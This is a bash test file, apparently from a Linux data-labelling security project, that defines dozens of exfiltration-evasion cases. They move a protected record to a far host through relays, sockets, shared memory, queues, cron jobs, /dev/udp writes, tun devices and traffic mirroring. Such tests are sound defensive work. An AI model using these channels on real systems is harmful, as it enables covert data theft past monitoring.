# shellcheck shell=bash
# shellcheck disable=SC2004,SC2034  # arrays of evasion.sh, by words
# SPDX-License-Identifier: Apache-2.0
#
# Getting it out by somebody else: who may read a record hands it to a process that may not, and that sends it. Sourced by
# tests/evasion/evasion.sh.

RELAYS='loopback proxies and tunnels' LOCAL='UNIX sockets to a helper' PASSED='descriptors passed to a helper'
PIPES='pipes, FIFOs and terminals' MEMORY='shared memory' QUEUES='message queues and keys' FILES='copies in files'
DEVICES='other devices and families' ARGUMENTS='programs and their arguments'
for line in "$RELAYS" "$LOCAL" "$PASSED" "$PIPES" "$MEMORY" "$QUEUES" "$FILES" "$DEVICES" "$ARGUMENTS"; do
	TRACED[$line]=$FOLLOWED
done

# hop FROM TO [WORD…]: a process of the helper's program that passes things on.
declare -a HOPS=()
hop() {
	"$CARRY" pass "$@" &
	HOPS+=($!)
}

# tell TO [WORD…]: who may read sends to a hop; when this ends, all have.
tell() {
	local hop status
	"$READER" pass "file,$R" "$@"
	status=$?
	((status == 0)) || kill "${HOPS[@]}" 2>/dev/null
	for hop in "${HOPS[@]}"; do
		wait "$hop" || status=$?
	done
	return "$status"
}

# A port for listening, as a shell has it only once.
a_port() { echo $((20000 + RANDOM % 10000)); }

# --- relays ---

relay() {
	local port
	port=$(a_port)
	hop "tcp-l,$1,$port" "$FAR_TCP" "${@:2}"
	tell "tcp,$1,$port"
}

evade via-tcp egress "$RELAYS" 'TCP on 127.0.0.1'
attack_via-tcp() { relay 127.0.0.1; }

evade via-tcp6 egress "$RELAYS" 'TCP on ::1'
attack_via-tcp6() { relay ::1; }

evade via-mapped egress "$RELAYS" 'TCP on 127.0.0.1 by a socket of IPv6'
attack_via-mapped() { relay ::ffff:127.0.0.1; }

evade via-connected egress "$RELAYS" 'a relay that is connected to the far side before'
attack_via-connected() { relay 127.0.0.1 first; }

evade via-splice egress "$RELAYS" 'a relay that splices' 6.1/lsm="stopped: $PAGES"
attack_via-splice() { relay 127.0.0.1 first splice; }

evade via-uring egress "$RELAYS" 'a relay that receives by io_uring'
attack_via-uring() { relay 127.0.0.1 first uring; }

evade via-nowhere egress "$RELAYS" 'a relay at the address 0.0.0.0'
attack_via-nowhere() { relay 0.0.0.0; }

evade via-own egress "$RELAYS" 'a relay at an address of this host that is not of loopback'
attack_via-own() { relay 10.9.0.1; }

evade via-udp egress "$RELAYS" 'UDP on 127.0.0.1'
attack_via-udp() {
	local port
	port=$(a_port)
	hop "udp-l,127.0.0.1,$port" "$FAR_UDP"
	soon test -e ready && tell "udp,127.0.0.1,$port"
}

evade via-udp6 egress "$RELAYS" 'UDP on ::1'
attack_via-udp6() {
	local port
	port=$(a_port)
	hop "udp-l,::1,$port" "$FAR_UDP"
	soon test -e ready && tell "udp,::1,$port"
}

evade via-two egress "$RELAYS" 'two relays, one after the other'
attack_via-two() {
	local port
	port=$(a_port)
	hop "tcp-l,::1,$((port + 1))" "$FAR_TCP" first
	hop "tcp-l,127.0.0.1,$port" "tcp,::1,$((port + 1))"
	tell "tcp,127.0.0.1,$port"
}

evade via-namespace egress "$RELAYS" 'a relay in another network namespace, which an agreement lets it reach' who=root
attack_via-namespace() {
	nsenter --net=/run/netns/mid "$CARRY" pass "tcp-l,10.8.0.2,$FAR_PORT" "tcp,10.7.0.2,$FAR_PORT" &
	HOPS+=($!)
	tell "tcp,10.8.0.2,$FAR_PORT"
}

evade via-namespace-udp egress "$RELAYS" 'the same by UDP' who=root
attack_via-namespace-udp() {
	nsenter --net=/run/netns/mid "$CARRY" pass "udp-l,10.8.0.2,$FAR_PORT" "udp,10.7.0.2,$FAR_PORT" &
	HOPS+=($!)
	soon test -e ready && tell "udp,10.8.0.2,$FAR_PORT"
}

# --- UNIX sockets ---

evade unix-stream egress "$LOCAL" 'a stream'
attack_unix-stream() { hop unix-l,socket "$FAR_UDP" && tell unix,socket; }

evade unix-master egress "$LOCAL" 'a process that has a connection to the far side, as of ssh'"'"'s ControlMaster'
attack_unix-master() { hop unix-l,socket "$FAR_TCP" first && tell unix,socket; }

evade unix-datagram egress "$LOCAL" 'a datagram'
attack_unix-datagram() { hop dgram-l,socket "$FAR_UDP" && soon test -e ready && tell dgram,socket; }

evade unix-seqpacket egress "$LOCAL" 'a packet'
attack_unix-seqpacket() { hop seqpacket-l,socket "$FAR_UDP" && tell seqpacket,socket; }

evade unix-abstract egress "$LOCAL" 'an abstract name'
attack_unix-abstract() { hop "unix-l,@$I" "$FAR_UDP" && tell "unix,@$I"; }

evade unix-pair egress "$LOCAL" 'a pair of sockets'
attack_unix-pair() { sent tell; }

evade unix-uring egress "$LOCAL" 'received by io_uring'
attack_unix-uring() { hop unix-l,socket "$FAR_TCP" first uring && tell unix,socket; }

evade unix-splice egress "$LOCAL" 'spliced from there to the far side' 6.1/lsm="stopped: $PAGES"
attack_unix-splice() { hop unix-l,socket "$FAR_TCP" first splice && tell unix,socket; }

passed() {
	hop passed,socket "$FAR_TCP" first
	"$READER" hand "$R" socket "$1"
	wait "${HOPS[0]}"
}

evade passed-record egress "$PASSED" 'the open record' entry='operations=read reason=*' tracing=stopped
attack_passed-record() { passed file; }

evade passed-pipe egress "$PASSED" 'a pipe, before it writes the record there'
attack_passed-pipe() { passed pipe; }

evade passed-socket egress "$PASSED" 'a socket, before it writes the record there'
attack_passed-socket() { passed socket; }

evade lent-socket egress "$PASSED" 'a connected socket, by the helper'
attack_lent-socket() {
	"$CARRY" lend "$FAR_TCP" socket &
	tell lent,socket
}

# --- pipes and terminals ---

evade pipe egress "$PIPES" 'a pipe'
attack_pipe() { "$CAT" "$R" | "$CARRY" pass - "$FAR_UDP"; }

evade pipe-connected egress "$PIPES" 'a pipe to who is connected before'
attack_pipe-connected() { "$CAT" "$R" | "$CARRY" pass - "$FAR_TCP" first; }

evade pipe-splice egress "$PIPES" 'spliced from a pipe to the far side' 6.1/lsm="stopped: $PAGES"
attack_pipe-splice() { "$CAT" "$R" | "$CARRY" pass - "$FAR_TCP" first splice; }

evade pipe-uring egress "$PIPES" 'read from a pipe by io_uring'
attack_pipe-uring() { "$CAT" "$R" | "$CARRY" pass - "$FAR_TCP" first uring; }

evade fifo egress "$PIPES" 'a FIFO'
attack_fifo() { mkfifo go && hop file,go "$FAR_UDP" && tell file,go; }

evade shell egress "$PIPES" 'a shell that takes what a command prints'
attack_shell() {
	local text
	text=$("$CAT" "$R") && echo "$text" >"/dev/udp/10.9.0.2/$FAR_PORT"
}

evade terminal egress "$PIPES" 'a terminal'
attack_terminal() { hop pty,name "$FAR_UDP" && soon test -s name && tell "file,$(<name)"; }

evade many-hops egress "$RELAYS" 'a pipe, gzip, a UNIX socket, a helper, a proxy on loopback'
layout_many-hops() { gzip -n <"$R" >spoor; }
attack_many-hops() {
	local port
	port=$(a_port)
	hop "tcp-l,127.0.0.1,$port" "$FAR_TCP"
	hop unix-l,socket "tcp,127.0.0.1,$port"
	"$CAT" "$R" | gzip -n | "$CARRY" pass - unix,socket
	wait "${HOPS[@]}"
}

evade many-hops-tls egress "$RELAYS" 'the same, and then by TLS'
layout_many-hops-tls() { gzip -n <"$R" >spoor; }
attack_many-hops-tls() {
	local port
	port=$(a_port)
	"$CARRY" pass "tcp-l,127.0.0.1,$port" - | timeout 10 "$TREE/tests/guest/tls.py" tls /dev/stdin 10.9.0.3 4433 &
	HOPS+=($!)
	hop unix-l,socket "tcp,127.0.0.1,$port"
	"$CAT" "$R" | gzip -n | "$CARRY" pass - unix,socket
	wait "${HOPS[@]}"
}

# --- memory ---

DECIDED='operations=read reason=not_granted'

evade vm egress "$MEMORY" 'of a child by CLONE_VM'
attack_vm() { slipped vm; }

evade written egress "$MEMORY" 'written into the helper by process_vm_writev' who=root
attack_written() { slipped written; }

evade anonymous egress "$MEMORY" 'mapped before the fork'
attack_anonymous() { slipped anonymous; }

evade memfd egress "$MEMORY" 'a memfd, mapped before the child reads'
attack_memfd() { slipped memfd; }

evade posix-shm egress "$MEMORY" 'of POSIX' entry="$DECIDED"
attack_posix-shm() { tell "posix-shm,/$I" && "$CARRY" pass "posix-shm,/$I" "$FAR_UDP" && rm -f "/dev/shm/$I"; }

evade sysv-shm egress "$MEMORY" 'of System V' entry="$DECIDED"
attack_sysv-shm() { by_number shm; }

# relay_memory FROM TO [WORD…]: who waits for it has mapped it before.
relay_memory() {
	hop "$1" "$FAR_UDP" && soon test -e ready && tell "${@:2}"
}

evade posix-shm-early egress "$MEMORY" 'of POSIX, mapped by both before the record is read'
attack_posix-shm-early() { relay_memory "posix-shm,/$I" "posix-shm,/$I" first && rm -f "/dev/shm/$I"; }

evade shm-sleeper egress "$MEMORY" 'of POSIX, to who sleeps there and has a connection to the far side'
attack_shm-sleeper() {
	hop "posix-shm,/$I" "$FAR_TCP" first && soon test -e ready && tell "posix-shm,/$I" first && rm -f "/dev/shm/$I"
}

evade sysv-shm-early egress "$MEMORY" 'of System V, mapped by who waits for it'
attack_sysv-shm-early() {
	local number
	number=$(a_port)
	relay_memory "shm,$number" "shm,$number" first
}

evade seen-early egress "$MEMORY" 'of POSIX, which the other has mapped to be read only'
attack_seen-early() { relay_memory "seen,/$I" "posix-shm,/$I" first && rm -f "/dev/shm/$I"; }

evade seen-write egress "$MEMORY" 'the same, written by write(2)'
attack_seen-write() { relay_memory "seen,/$I" "file,/dev/shm/$I" && rm -f "/dev/shm/$I"; }

evade map-early egress "$MEMORY" 'a file that both map before the record is read'
attack_map-early() { relay_memory map,file map,file first; }

evade memory-opened egress "$MEMORY" 'of a child, whose /proc/PID/mem was opened before' who=root
attack_memory-opened() { slipped opened; }

# A place of kind $1 that is known by a number.
by_number() {
	local number
	number=$(a_port)
	tell "$1,$number" && "$CARRY" pass "$1,$number" "$FAR_UDP"
}

evade mapped-file egress "$MEMORY" 'a file that both map' entry="$DECIDED"
attack_mapped-file() { tell map,file && "$CARRY" pass map,file "$FAR_UDP"; }

# --- queues ---

evade posix-queue egress "$QUEUES" 'a queue of POSIX'
attack_posix-queue() { tell "mq,/$I" && "$CARRY" pass "mq,/$I" "$FAR_UDP"; }

evade sysv-queue egress "$QUEUES" 'a queue of System V'
attack_sysv-queue() { by_number msg; }

evade key egress "$QUEUES" 'a key of the user'"'"'s keyring' native='keyrings are the machine'"'"'s'
attack_key() { tell "key,$I" && "$CARRY" pass "key,$I" "$FAR_UDP"; }

evade kernel-log egress "$QUEUES" 'the kernel'"'"'s log' who=root entry='operations=write reason=not_agreed' \
	native='the log is the machine'"'"'s'
attack_kernel-log() { "$CAT" "$R" >/dev/kmsg && dmesg | grep -F "$MARK" | "$CARRY" pass - "$FAR_UDP"; }

# --- files ---

evade copied egress "$FILES" 'a copy, read later' entry="$DECIDED"
attack_copied() { "$CAT" "$R" >note && "$CARRY" pass file,note "$FAR_UDP"; }

evade copied-user egress "$FILES" 'a copy in /tmp, read by another user' who=root entry="$DECIDED uid=${M_UID[news]}"
attack_copied-user() {
	local copy=/tmp/$I.$PASS
	"$CAT" "$R" >"$copy" && as news "$CARRY" pass "file,$copy" "$FAR_UDP" && rm -f "$copy"
}

evade copied-cron egress "$FILES" 'a copy in /tmp, sent by another user'"'"'s job an hour later' who=root \
	entry="$DECIDED uid=${M_UID[news]}" native='the clock is the machine'"'"'s'
attack_copied-cron() {
	local copy=/tmp/$I.$PASS cron
	"$CAT" "$R" >"$copy" && chmod 644 "$copy" || return
	echo "* * * * * news $CARRY pass file,$copy $FAR_UDP; : >$W/job" >/etc/cron.d/evade && chmod 644 /etc/cron.d/evade || return
	date -s "@$((($(date +%s) + 3600) / 60 * 60 + 57))" >/dev/null || return # cron looks for jobs as a minute begins
	cron -f &
	cron=$!
	soon test -e job
	kill "$cron"
	rm -f /etc/cron.d/evade "$copy"
}

evade copied-linked egress "$FILES" 'a copy, renamed and linked' entry="$DECIDED"
attack_copied-linked() { "$CAT" "$R" >note && mv note other && ln other third && "$CARRY" pass file,third "$FAR_UDP"; }

evade named egress "$FILES" 'the name of a file' all='missed: names, sizes and times are not labelled'
attack_named() { mkdir names && "$CAT" "$R" | (cd names && read -r name && : >"$name") && find names | "$CARRY" pass - "$FAR_UDP"; }

evade noted egress "$FILES" 'an extended attribute' entry="$DECIDED hook=inode_getxattr"
attack_noted() { : >note && tell xattr,note && "$CARRY" pass xattr,note "$FAR_UDP"; }

# --- programs ---

evade executed egress "$ARGUMENTS" 'another program, executed with the data as a variable' tracing=prevented
attack_executed() { "$SLIP" exec "$R" - - - - "$CARRY" pass env,RECORD "$FAR_UDP"; }

# A process that has the record as its name: HELD_PID.
named_process() {
	"$SLIP" exec "$R" - - - - sleep 5 &
	HELD_PID=$!
	soon grep -qx sleep "/proc/$HELD_PID/comm"
}

evade proc-environ egress "$ARGUMENTS" 'a variable of the reader, in /proc' who=root \
	blocking='unrecorded: variables of who holds records are not shown to who does not, which every ps tries'
attack_proc-environ() {
	named_process && "$CARRY" pass "file,/proc/$HELD_PID/environ" "$FAR_UDP"
	end_reader
}

evade proc-cmdline egress "$ARGUMENTS" 'an argument of the reader, in /proc' \
	all='missed: the arguments of a process are not labelled'
attack_proc-cmdline() {
	named_process && "$CARRY" pass "file,/proc/$HELD_PID/cmdline" "$FAR_UDP"
	end_reader
}

# --- other devices and families ---

evade netlink-named egress "$DEVICES" 'netlink to a process, named as it sends'
attack_netlink-named() {
	local port
	port=$(a_port)
	hop "netlink-l,$port" "$FAR_UDP" && soon test -e ready && sent netlink - "$port"
	local status=$?
	((status == 0)) || kill "${HOPS[@]}" 2>/dev/null
	wait "${HOPS[@]}"
	return "$status"
}

evade netlink egress "$DEVICES" 'netlink to a process, to which it is connected'
attack_netlink() {
	local port
	port=$(a_port)
	hop "netlink-l,$port" "$FAR_UDP" && soon test -e ready && tell "netlink,$port"
}

evade vsock egress "$DEVICES" 'vsock to a process' needs=needs_vsock
needs_vsock() {
	modprobe -q vsock_loopback 2>/dev/null
	grep -qw vsock_loopback /proc/modules || { echo "no vsock_loopback here" && return 1; }
}
attack_vsock() {
	local port
	port=$(a_port)
	hop "vsock-l,$port" "$FAR_UDP" && tell "vsock,$port"
}

evade tun egress "$DEVICES" 'a packet that a tunnel device seems to have received' who=root needs=needs_tun \
	entry='operations=write reason=not_agreed'
needs_tun() {
	modprobe -q tun 2>/dev/null
	[[ -e /dev/net/tun ]] || { mkdir -p /dev/net && mknod /dev/net/tun c 10 200; } 2>/dev/null
	grep -qw tun /proc/misc || { echo "no tun here" && return 1; }
}
attack_tun() {
	local status
	ip tuntap add slip mode tun && ip addr add 10.6.0.1/24 dev slip && ip link set slip up && echo 1 >/proc/sys/net/ipv4/ip_forward
	"$SLIP" tun "$R" 10.9.0.2 "$FAR_PORT" 10.9.0.3 "$UDP_PORT" slip
	status=$?
	sleep 0.2
	ip link del slip
	return "$status"
}

evade routed-loopback egress "$DEVICES" 'an address of loopback that is routed to the far side' who=root \
	all='unrecorded: the packet is dropped on its way, and counted' \
	tracing='missed: with tracing no packets are looked at'
attack_routed-loopback() {
	local status
	ip route add unicast 127.9.9.9/32 dev near src 10.9.0.1 table local &&
		ip neigh replace 127.9.9.9 lladdr ff:ff:ff:ff:ff:ff dev near && tell "udp,127.9.9.9,$FAR_PORT"
	status=$?
	ip route del 127.9.9.9/32 dev near table local
	return "$status"
}

evade mirrored-loopback egress "$DEVICES" 'loopback'"'"'s packets, mirrored to the far side by the traffic control' who=root \
	needs=needs_mirror all='missed: what goes by loopback may be mirrored elsewhere by who rules the network'
needs_mirror() {
	modprobe -q -a sch_ingress cls_matchall act_mirred 2>/dev/null
	grep -qw act_mirred /proc/modules || { echo "no act_mirred here" && return 1; }
}
attack_mirrored-loopback() {
	local status
	tc qdisc add dev lo clsact && tc filter add dev lo egress matchall action mirred egress mirror dev near &&
		tell "udp,127.0.0.1,$FAR_PORT"
	status=$?
	tc qdisc del dev lo clsact
	return "$status"
}
